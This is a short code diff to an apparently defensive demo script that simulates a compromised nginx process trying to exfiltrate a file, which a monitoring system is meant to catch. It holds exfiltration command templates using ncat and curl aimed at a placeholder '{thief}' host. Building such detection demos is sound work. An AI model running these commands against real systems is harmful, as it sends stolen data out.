@@ -220,7 +220,6 @@ class Demo:
         self.chapter("the same shell tries to send it out (S05, S07)")
         self.step("nginx's child: ncat", self.call_out, "ncat --send-only {thief} {port} < {file}", 4444,
                   HOSTS["stranger"][0][3])
-        time.sleep(1)  # of one account, one refusal a second is told
         self.step("nginx's child: curl to port 443", self.call_out, "curl -sSk -m 3 -T {file} https://{thief}:{port}/",
                   443, HOSTS["stranger"][0][4])
         self.chapter("a login of an approved partner is stolen: ten times the volume (S22)")
